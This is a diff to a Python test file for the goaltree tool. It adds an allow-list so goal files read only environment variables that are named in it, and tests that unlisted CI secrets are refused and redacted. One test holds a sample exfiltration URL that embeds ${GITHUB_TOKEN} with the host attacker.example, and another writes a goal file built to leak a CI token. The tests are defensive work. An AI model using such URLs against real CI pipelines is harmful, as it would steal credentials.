@@ -5,12 +5,25 @@ from __future__ import annotations
 import pytest
 
 from goaltree.model import PluginSource, SqlSource
-from goaltree.sources.secrets import MissingVariable, Redactor, interpolate, interpolate_source, looks_secret
+from goaltree.sources.secrets import (
+    ALLOWED_VARIABLES,
+    MissingVariable,
+    Redactor,
+    UnallowedVariable,
+    interpolate,
+    interpolate_source,
+    looks_secret,
+)
+
+
+def allowing(environ: dict[str, str], *more: str) -> dict[str, str]:
+    """``environ`` with every variable in it (and ``more``) listed as one a goal file may read."""
+    return {**environ, ALLOWED_VARIABLES: ", ".join([*environ, *more])}
 
 
 def test_variables_are_read_and_escapes_kept() -> None:
     redact = Redactor()
-    environ = {"DATA_DIR": "exports", "YEAR": "2027"}
+    environ = allowing({"DATA_DIR": "exports", "YEAR": "2027"})
 
     assert interpolate("${DATA_DIR}/deals-${YEAR}.csv", environ, redact, field="path") == "exports/deals-2027.csv"
     assert interpolate("$${DATA_DIR}/x", environ, redact, field="path") == "${DATA_DIR}/x"
@@ -20,10 +33,35 @@ def test_variables_are_read_and_escapes_kept() -> None:
 
 def test_a_missing_variable_names_itself_and_the_field() -> None:
     with pytest.raises(MissingVariable) as caught:
-        interpolate("postgresql://u:${DB_PASSWORD}@h/db", {}, Redactor(), field="url", url=True)
+        interpolate("postgresql://u:${DB_PASSWORD}@h/db", allowing({}, "DB_PASSWORD"), Redactor(), field="url", url=True)
 
     assert caught.value.name == "DB_PASSWORD"
     assert str(caught.value) == "environment variable DB_PASSWORD is not set (used in `url`); set it or change the source"
+
+
+@pytest.mark.parametrize("listed", ["", "DB_PASSWORD", " DB_PASSWORD,DB_HOST ", "GITHUB_TOKENS"])
+def test_a_variable_the_environment_does_not_list_is_never_read(listed: str) -> None:
+    # A goal file from a pull request must not send the CI job's other secrets to a host it chooses.
+    environ = {"GITHUB_TOKEN": "ghp_secret_value", "DB_PASSWORD": "pw-123456", ALLOWED_VARIABLES: listed}
+    redact = Redactor()
+    with pytest.raises(UnallowedVariable) as caught:
+        interpolate("postgresql://u:${GITHUB_TOKEN}@attacker.example/db", environ, redact, field="url", url=True)
+    assert caught.value.name == "GITHUB_TOKEN"
+    assert str(caught.value) == (
+        "environment variable GITHUB_TOKEN (used in `url`) is not one a goal file may read: sources read only the "
+        "variables the environment names in GOALTREE_ALLOWED_VARIABLES, never others a CI job holds; add it there "
+        "where goaltree runs (GOALTREE_ALLOWED_VARIABLES=GITHUB_TOKEN) or change the source"
+    )
+    # Whether it is set is not said either: an unlisted variable that is not set reads the same.
+    with pytest.raises(UnallowedVariable):
+        interpolate("${NOT_SET_ANYWHERE}", environ, redact, field="path")
+    assert redact("ghp_secret_value") == "ghp_secret_value"  # never read, so never remembered
+
+
+def test_listed_variables_are_read_whatever_separates_them() -> None:
+    environ = {"DB_PASSWORD": "pw-123456", "DB_HOST": "db.internal", ALLOWED_VARIABLES: " DB_PASSWORD,\tDB_HOST "}
+    url = interpolate("postgresql://u:${DB_PASSWORD}@${DB_HOST}/db", environ, Redactor(), field="url", url=True)
+    assert url == "postgresql://u:pw-123456@db.internal/db"
 
 
 @pytest.mark.parametrize("name", ["DB_PASSWORD", "hubspot_token", "CLIENT_SECRET", "API_KEY", "GCP_CREDENTIALS", "SSH_PRIVATE"])
@@ -38,14 +76,14 @@ def test_names_that_do_not(name: str) -> None:
 
 def test_values_of_secret_variables_are_masked_everywhere() -> None:
     redact = Redactor()
-    interpolate("${API_TOKEN}", {"API_TOKEN": "abc-123-xyz"}, redact, field="token")
+    interpolate("${API_TOKEN}", allowing({"API_TOKEN": "abc-123-xyz"}), redact, field="token")
 
     assert redact("request failed with token abc-123-xyz (abc-123-xyz)") == "request failed with token *** (***)"
 
 
 def test_every_value_read_into_a_url_is_a_secret_and_passwords_are_url_encoded() -> None:
     redact = Redactor()
-    environ = {"DB_USER": "report", "DB_PW": "p@ss/w:rd?", "DB_HOST": "db.internal"}
+    environ = allowing({"DB_USER": "report", "DB_PW": "p@ss/w:rd?", "DB_HOST": "db.internal"})
 
     url = interpolate("postgresql://${DB_USER}:${DB_PW}@${DB_HOST}/sales", environ, redact, field="url", url=True)
 
@@ -72,7 +110,7 @@ def test_a_short_secret_is_masked_where_it_stands_alone() -> None:
 
 def test_a_whole_source_declaration_is_interpolated() -> None:
     redact = Redactor()
-    environ = {"PW": "sekret-pw", "ACCOUNT": "acme", "TOKEN_VALUE": "tok-1"}
+    environ = allowing({"PW": "sekret-pw", "ACCOUNT": "acme", "TOKEN_VALUE": "tok-1"})
 
     sql = interpolate_source(SqlSource(type="sql", url="postgresql://u:${PW}@h/db"), environ, redact)
     plugin = interpolate_source(
@@ -84,3 +122,35 @@ def test_a_whole_source_declaration_is_interpolated() -> None:
     assert sql.url == "postgresql://u:sekret-pw@h/db"
     assert (plugin.account, plugin.auth, plugin.regions) == ("acme", {"token": "tok-1"}, ["acme-se"])
     assert redact("sekret-pw acme") == "*** acme"  # ACCOUNT is no secret; a URL's password is
+
+
+def test_a_goal_file_cannot_send_an_unlisted_secret_to_a_host_it_names(tmp_path, monkeypatch, capsys) -> None:
+    from goaltree.cli import main
+
+    monkeypatch.setenv("GOALTREE_TEST_CI_TOKEN", "ci-token-0123456789")
+    monkeypatch.setenv(ALLOWED_VARIABLES, "DB_PASSWORD")
+    goals = tmp_path / "goals.yaml"
+    goals.write_text(
+        """\
+goaltree: 1
+id: pr
+title: A pull request's goal file
+period: {start: 2027-01-01, end: 2027-12-31}
+sources:
+  leak: {type: sql, url: "postgresql://u:${GOALTREE_TEST_CI_TOKEN}@127.0.0.1:1/db?connect_timeout=1"}
+nodes:
+  deals:
+    title: 100 deals
+    unit: count
+    target: 100
+    metric: {source: leak, query: "SELECT date, value FROM deals WHERE date BETWEEN :start AND :end"}
+""",
+        encoding="utf-8",
+    )
+
+    assert main(["evaluate", str(goals), "--as-of", "2027-06-30"]) == 1
+    captured = capsys.readouterr()
+    output = captured.out + captured.err
+    assert "error E018" in output and "GOALTREE_TEST_CI_TOKEN (used in `url`) is not one a goal file may read" in output
+    assert "E013" not in output  # refused before any connection was tried (port 1 would refuse it: E013)
+    assert "ci-token-0123456789" not in output
